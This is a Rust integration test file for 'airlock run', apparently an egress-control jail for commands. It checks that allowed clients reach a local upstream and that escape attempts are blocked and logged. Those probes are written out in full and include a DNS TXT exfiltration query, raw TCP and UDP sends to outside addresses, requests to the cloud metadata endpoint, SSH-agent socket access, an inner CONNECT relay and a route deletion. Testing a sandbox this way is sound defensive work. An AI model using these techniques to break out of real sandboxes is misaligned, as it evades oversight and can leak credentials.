//! `airlock run` with real clients and no proxy variables: curl and python3 urllib reach a
//! loopback TLS upstream through the jail's transparent capture; a refused host gets the
//! JSON 403 inside TLS; escape attempts (direct IP, an unnamed port, UDP, a DNS TXT
//! exfiltration query) fail and are logged. Every address inside the jail is local, so
//! nothing can leave the machine. `--jail env` reaches the upstream through HTTPS_PROXY.

use crate::support;
use crate::support::run::{RunHome, code, json_after, namespaces_available};
use crate::support::{TestPki, Upstream};
use serde_json::Value;

/// The flags that let the command reach `allowed.test:PORT` (the loopback upstream).
fn upstream_flags(pki: &TestPki, upstream: &Upstream, home: &RunHome) -> Vec<String> {
    vec![
        "--resolve".into(),
        "allowed.test:127.0.0.1".into(),
        "--upstream-ca".into(),
        pki.upstream_ca_cert.to_string_lossy().into_owned(),
        "--allow".into(),
        format!("allowed.test:{}", upstream.port()),
        "--log".into(),
        home.log_path().to_string_lossy().into_owned(),
    ]
}

fn run_script(home: &RunHome, flags: &[String], script: &str) -> (i32, String, String) {
    let mut args: Vec<&str> = flags.iter().map(String::as_str).collect();
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let output = home.run(&args);
    let status = code(&output);
    (
        status,
        String::from_utf8_lossy(&output.stdout).into_owned(),
        output.stderr,
    )
}

#[test]
fn curl_and_python_reach_the_upstream_without_proxy_variables() {
    if !namespaces_available("curl_and_python_reach_the_upstream_without_proxy_variables") {
        return;
    }
    crate::support::need_all(&["curl", "python3"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let port = upstream.port();
    let script = format!(
        "echo CURL; curl -sS --max-time 20 https://allowed.test:{port}/echo/curl; echo; \
         echo PYTHON; python3 -c 'import urllib.request; \
         print(urllib.request.urlopen(\"https://allowed.test:{port}/echo/python\", timeout=20).read().decode())'; \
         env | grep -ci proxy || true"
    );
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(
        json_after(&stdout, "CURL")["path"],
        "/echo/curl",
        "{stdout}"
    );
    assert_eq!(
        json_after(&stdout, "PYTHON")["path"],
        "/echo/python",
        "{stdout}"
    );
    assert_eq!(
        stdout.lines().last(),
        Some("0"),
        "no proxy variable inside: {stdout}"
    );
    assert_eq!(upstream.hit_count(), 2, "{stderr}");
    let allowed: Vec<Value> = home
        .audit_lines()
        .into_iter()
        .filter(|l| l["kind"] == "http" && l["decision"] == "allow")
        .collect();
    assert_eq!(allowed.len(), 2, "{allowed:?}");
    for line in allowed {
        assert_eq!(line["host"], "allowed.test", "{line}");
        assert_eq!(line["port"], port, "{line}");
        assert_eq!(line["scheme"], "https", "{line}");
    }
}

#[test]
fn a_refused_host_gets_the_json_403_inside_tls() {
    if !namespaces_available("a_refused_host_gets_the_json_403_inside_tls") {
        return;
    }
    crate::support::need_all(&["curl"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let script = "echo REFUSED; curl -sS --max-time 20 https://refused.example/secret?k=v; echo";
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    let body = json_after(&stdout, "REFUSED");
    assert_eq!(body["error"], "blocked_by_policy", "{body}");
    assert_eq!(body["reason"], "host_not_allowed", "{body}");
    assert_eq!(body["host"], "refused.example", "{body}");
    upstream.assert_untouched("a refused host");
    let lines = home.audit_lines();
    assert!(
        lines.iter().any(|l| l["kind"] == "http"
            && l["decision"] == "deny"
            && l["host"] == "refused.example"
            && l["reason"] == "host_not_allowed"),
        "{lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l["kind"] == "dns" && l["name"] == "refused.example"),
        "{lines:?}"
    );
    assert!(
        stderr.contains("1 request refused (refused.example ×1)"),
        "summary line: {stderr}"
    );
}

/// Python probes: TCP to a port no rule names, UDP 443, and a DNS TXT query for an
/// exfiltration name sent to an outside resolver address.
const ESCAPE_PROBES: &str = r#"
import socket, struct
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("203.0.113.9", 2222)); s.sendall(b"SSH-2.0-probe\r\n")
    print("TCP2222=answered" if s.recv(64) else "TCP2222=closed")
except OSError as e:
    print("TCP2222=refused")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
try:
    u.sendto(b"quic-initial", ("198.51.100.1", 443)); u.recvfrom(2048); print("UDP443=answered")
except OSError:
    print("UDP443=nothing")
name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.exfil.example".split(b".")) + b"\0"
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(5)
d.sendto(query, ("192.0.2.53", 53))
reply, source = d.recvfrom(4096)
print("DNS=id%x rcode%d answers%d from%s" % (struct.unpack(">H", reply[:2])[0], reply[3] & 15, struct.unpack(">H", reply[6:8])[0], source[0]))
"#;

#[test]
fn escape_attempts_fail_and_are_logged() {
    if !namespaces_available("escape_attempts_fail_and_are_logged") {
        return;
    }
    crate::support::need_all(&["curl", "python3"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let probes = home.scratch().join("probes.py");
    std::fs::write(&probes, ESCAPE_PROBES).expect("write probes");
    let script = format!(
        "echo DIRECT; curl -sS --max-time 20 https://203.0.113.9/; echo; python3 {}",
        probes.display()
    );
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    let direct = json_after(&stdout, "DIRECT");
    assert_eq!(direct["error"], "blocked_by_policy", "{direct}");
    assert_eq!(direct["host"], "203.0.113.9", "{direct}");
    // Answered by airlock through the catch-all port (refused, closed, audited below).
    assert!(stdout.contains("TCP2222=closed"), "{stdout}");
    assert!(stdout.contains("UDP443=nothing"), "{stdout}");
    assert!(
        stdout.contains("DNS=id1234 rcode0 answers0 from192.0.2.53"),
        "the TXT query is answered locally and empty: {stdout}"
    );
    upstream.assert_untouched("escape attempts");
    let lines = home.audit_lines();
    assert!(
        lines
            .iter()
            .any(|l| l["decision"] == "deny" && l["host"] == "203.0.113.9" && l["port"] == 443),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l["kind"] == "tcp"
            && l["decision"] == "deny"
            && l["host"] == "203.0.113.9"
            && l["port"] == 2222),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l["kind"] == "dns"
            // Logged canonical (lower-case), as every host in the log is.
            && l["name"] == "c2vjcmv0.exfil.example"
            && l["qtype"] == "TXT"),
        "{lines:?}"
    );
}

#[test]
fn env_mode_reaches_the_upstream_through_https_proxy() {
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let mut flags = upstream_flags(&pki, &upstream, &home);
    flags.extend(["--jail".to_owned(), "env".to_owned()]);
    let script = format!(
        "echo CURL; curl -sS --max-time 20 https://allowed.test:{}/echo/env; echo",
        upstream.port()
    );
    let (status, stdout, stderr) = run_script(&home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(json_after(&stdout, "CURL")["path"], "/echo/env", "{stdout}");
    assert!(stderr.contains("advisory"), "{stderr}");
    assert_eq!(upstream.hit_count(), 1);
}

/// Probes run inside the jail: IPv6 and the cloud metadata address over HTTP(S) reach only
/// the proxy (403 inside the session); a filesystem UNIX socket named by `SSH_AUTH_SOCK` and
/// a daemon's socket under /tmp are hidden; an abstract UNIX socket of the host's network
/// namespace does not exist inside.
const MORE_PROBES: &str = r#"
import os, socket, sys
def unix(label, address):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(address); print(label + "=connected")
    except OSError as e:
        print(label + "=failed")
unix("AGENTSOCK", sys.argv[1])
unix("ABSTRACT", "\0" + sys.argv[2])
unix("DAEMONSOCK", sys.argv[3])
print("SSH_AUTH_SOCK=" + os.environ.get("SSH_AUTH_SOCK", "unset"))
"#;

#[test]
fn ipv6_metadata_and_unix_socket_escapes_fail() {
    if !namespaces_available("ipv6_metadata_and_unix_socket_escapes_fail") {
        return;
    }
    crate::support::need_all(&["curl", "python3"]);
    crate::support::need_all(&["curl"]);
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};

    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    // Canaries on the host: a filesystem socket standing in for an ssh-agent, and an
    // abstract socket in the host's network namespace.
    let agent_path = home.scratch().join("agent.sock");
    let agent = UnixListener::bind(&agent_path).expect("agent socket");
    agent.set_nonblocking(true).expect("nonblocking");
    let abstract_name = format!("airlock-canary-{}", std::process::id());
    let abstract_addr = SocketAddr::from_abstract_name(abstract_name.as_bytes()).expect("name");
    let abstract_listener = UnixListener::bind_addr(&abstract_addr).expect("abstract socket");
    abstract_listener
        .set_nonblocking(true)
        .expect("nonblocking");
    // A daemon's socket somewhere under /tmp (a Docker or tmux socket stands in for it).
    let daemon_path = home.scratch().join("run").join("daemon.sock");
    std::fs::create_dir_all(daemon_path.parent().expect("parent")).expect("socket dir");
    let daemon = UnixListener::bind(&daemon_path).expect("daemon socket");
    daemon.set_nonblocking(true).expect("nonblocking");

    let probes = home.scratch().join("more_probes.py");
    std::fs::write(&probes, MORE_PROBES).expect("write probes");
    let script = format!(
        "echo V6; curl -sS --max-time 20 'https://[2001:db8::1]/v6'; echo; \
         echo META; curl -sS --max-time 20 http://169.254.169.254/latest/meta-data/; echo; \
         python3 {} {} {abstract_name} {}",
        probes.display(),
        agent_path.display(),
        daemon_path.display()
    );
    let mut args: Vec<String> = upstream_flags(&pki, &upstream, &home);
    args.extend(["--".into(), "sh".into(), "-c".into(), script]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let agent_env = agent_path.to_string_lossy().into_owned();
    let output = home.run_with_env(&args, &[("SSH_AUTH_SOCK", &agent_env)]);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(code(&output), 0, "{stdout}\n{}", output.stderr);

    let v6 = json_after(&stdout, "V6");
    assert_eq!(v6["error"], "blocked_by_policy", "{v6}");
    assert_eq!(v6["reason"], "host_not_allowed", "{v6}");
    let meta = json_after(&stdout, "META");
    assert_eq!(meta["error"], "blocked_by_policy", "{meta}");
    assert_eq!(meta["host"], "169.254.169.254", "{meta}");
    assert!(stdout.contains("AGENTSOCK=failed"), "{stdout}");
    assert!(stdout.contains("ABSTRACT=failed"), "{stdout}");
    assert!(stdout.contains("DAEMONSOCK=failed"), "{stdout}");
    assert!(stdout.contains("SSH_AUTH_SOCK=unset"), "{stdout}");
    assert!(
        agent.accept().is_err() && abstract_listener.accept().is_err() && daemon.accept().is_err(),
        "a canary socket was reached from inside the jail"
    );
    upstream.assert_untouched("IPv6, metadata and UNIX socket probes");
    let lines = home.audit_lines();
    assert!(
        lines
            .iter()
            .any(|l| l["decision"] == "deny" && l["host"] == "169.254.169.254"),
        "the metadata refusal is not logged: {lines:?}"
    );
    assert!(
        lines.iter().any(|l| l["decision"] == "deny"
            && l["host"]
                .as_str()
                .is_some_and(|h| h.contains("2001:db8::1"))),
        "IPv6 refusal not logged: {lines:?}"
    );
}

#[test]
fn node_fetch_and_git_clone_work_without_proxy_variables() {
    if !namespaces_available("node_fetch_and_git_clone_work_without_proxy_variables") {
        return;
    }
    crate::support::need_all(&["node", "git"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let root = home.scratch().join("repos");
    std::fs::create_dir_all(&root).expect("repos dir");
    let files = support::fixture_server::make_repository(&root, &home.scratch());
    let git_server = support::fixture_server::FixtureServer::git(&pki, &root);
    let port = upstream.port();
    let git_port = git_server.port;
    let mut flags = upstream_flags(&pki, &upstream, &home);
    flags.extend([
        "--resolve".to_owned(),
        "other.test:127.0.0.1".to_owned(),
        "--allow".to_owned(),
        format!("other.test:{git_port}"),
    ]);
    let fetch = |url: &str| {
        format!(
            "node -e 'fetch(\"{url}\").then(r => r.text()).then(t => console.log(t))\
             .catch(e => {{ console.log(\"ERR \" + e.cause); process.exit(3); }})' 2>/dev/null"
        )
    };
    let script = format!(
        "echo NODE; {}; echo REFUSED; {}; \
         git -c init.defaultBranch=main clone -q https://other.test:{git_port}/repo.git cloned && echo CLONED",
        fetch(&format!("https://allowed.test:{port}/echo/node")),
        fetch("https://refused.example/x"),
    );
    let (status, stdout, stderr) = run_script(&home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(
        json_after(&stdout, "NODE")["path"],
        "/echo/node",
        "{stdout}"
    );
    let refused = json_after(&stdout, "REFUSED");
    assert_eq!(refused["reason"], "host_not_allowed", "{refused}");
    assert!(stdout.contains("CLONED"), "{stdout}\n{stderr}");
    for (name, content) in &files {
        let cloned =
            std::fs::read_to_string(home.scratch().join("cloned").join(name)).expect("cloned file");
        assert_eq!(&cloned, content, "{name} differs");
    }
    let lines = home.audit_lines();
    assert!(
        lines
            .iter()
            .any(|l| l["host"] == "other.test" && l["path"] == "/repo.git/git-upload-pack"),
        "{lines:?}"
    );
}

/// A CONNECT relay the command starts inside the jail: it can only dial out through the
/// jail's capture, so it reaches nothing airlock would refuse.
const INNER_RELAY: &str = r#"
import socket, sys, threading
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 8888)); server.listen(4); server.settimeout(30)
print("RELAY=ready", flush=True)
def pipe(a, b):
    try:
        while True:
            data = a.recv(65536)
            if not data: break
            b.sendall(data)
    except OSError: pass
    finally:
        for s in (a, b):
            try: s.shutdown(socket.SHUT_RDWR)
            except OSError: pass
client, _ = server.accept(); client.settimeout(30)
head = b""
while b"\r\n\r\n" not in head and len(head) < 8192:
    head += client.recv(1024)
host, port = head.split(b" ")[1].decode().rsplit(":", 1)
upstream = socket.create_connection((host, int(port)), timeout=30)
client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
threading.Thread(target=pipe, args=(upstream, client), daemon=True).start()
pipe(client, upstream)
"#;

#[test]
fn inner_relays_and_route_changes_open_no_way_out() {
    if !namespaces_available("inner_relays_and_route_changes_open_no_way_out") {
        return;
    }
    crate::support::need_all(&["curl", "python3"]);
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let relay = home.scratch().join("relay.py");
    std::fs::write(&relay, INNER_RELAY).expect("write relay");
    let script = format!(
        "ip route del local 0.0.0.0/0 dev lo table local 2>/dev/null; echo \"ROUTE=$?\"; \
         echo AFTER_ROUTE; curl -sS --max-time 20 https://refused.example/after-route; echo; \
         python3 {} & sleep 1; \
         echo RELAYED; curl -sS --max-time 20 -x http://127.0.0.1:8888 https://refused.example/relayed; echo; \
         wait",
        relay.display()
    );
    let (status, stdout, stderr) =
        run_script(&home, &upstream_flags(&pki, &upstream, &home), &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(
        !stdout.contains("ROUTE=0") && !stdout.contains("ROUTE=127"),
        "the command could change the jail's routes (or `ip` is missing): {stdout}"
    );
    let after_route = json_after(&stdout, "AFTER_ROUTE");
    assert_eq!(after_route["reason"], "host_not_allowed", "{after_route}");
    let relayed = json_after(&stdout, "RELAYED");
    assert_eq!(relayed["reason"], "host_not_allowed", "{relayed}");
    assert_eq!(relayed["path"], "/relayed", "{relayed}");
    upstream.assert_untouched("route change and inner relay");
}

#[test]
fn pip_downloads_from_an_allowed_index_without_proxy_variables() {
    if !namespaces_available("pip_downloads_from_an_allowed_index_without_proxy_variables") {
        return;
    }
    crate::support::tools::need_pip();
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = RunHome::new();
    let index_root = home.scratch().join("index");
    let index = support::fixture_server::FixtureServer::package_index(&pki, &index_root);
    let mut flags = upstream_flags(&pki, &upstream, &home);
    flags.extend([
        "--resolve".to_owned(),
        "other.test:127.0.0.1".to_owned(),
        "--allow".to_owned(),
        format!("other.test:{}", index.port),
    ]);
    let script = format!(
        "python3 -m pip download --no-deps --no-cache-dir --disable-pip-version-check \
         --index-url https://other.test:{}/simple/ -d downloads demo-pkg && echo DOWNLOADED",
        index.port
    );
    let (status, stdout, stderr) = run_script(&home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("DOWNLOADED"), "{stdout}\n{stderr}");
    assert!(
        home.scratch()
            .join("downloads")
            .join("demo_pkg-1.0-py3-none-any.whl")
            .is_file(),
        "{stdout}"
    );
    let lines = home.audit_lines();
    assert!(
        lines.iter().any(|l| l["host"] == "other.test"
            && l["decision"] == "allow"
            && l["path"] == "/packages/demo_pkg-1.0-py3-none-any.whl"),
        "{lines:?}"
    );
}

/// `--allow localhost:PORT` inside `airlock run`: the command's `localhost` is the host's
/// loopback, decided on the name it used as `airlock proxy` and `policy explain` decide it
/// (`proxy_decision::localhost_is_decided_alike_by_the_proxy_and_explain`), not refused as
/// `host_mismatch` because the jail captured it at 127.0.0.1.
#[test]
fn localhost_allowed_by_name_reaches_the_hosts_loopback() {
    if !namespaces_available("localhost_allowed_by_name_reaches_the_hosts_loopback") {
        return;
    }
    crate::support::need_all(&["curl"]);
    let upstream = Upstream::plain();
    let home = RunHome::new();
    let port = upstream.port();
    // No `--resolve`: a rule naming `localhost` is consent to the host's loopback.
    let flags: Vec<String> = vec![
        "--allow".into(),
        format!("localhost:{port}"),
        "--log".into(),
        home.log_path().to_string_lossy().into_owned(),
    ];
    let script = format!(
        "echo LOOPBACK; curl -sS --max-time 20 -4 http://localhost:{port}/echo/loopback; echo; \
         echo NUMBER; curl -sS --max-time 20 http://127.0.0.1:{port}/echo/number; echo"
    );
    let (status, stdout, stderr) = run_script(&home, &flags, &script);
    assert_eq!(status, 0, "{stdout}\n{stderr}");
    assert_eq!(
        json_after(&stdout, "LOOPBACK")["path"],
        "/echo/loopback",
        "{stdout}\n{stderr}"
    );
    let refused = json_after(&stdout, "NUMBER");
    assert_eq!(refused["reason"], "host_not_allowed", "{stdout}");
    assert_eq!(upstream.hit_count(), 1, "{stderr}");
    let lines = home.audit_lines();
    assert!(
        lines.iter().any(|l| l["kind"] == "http"
            && l["decision"] == "allow"
            && l["host"] == "localhost"
            && l["port"] == port),
        "{lines:?}"
    );
}
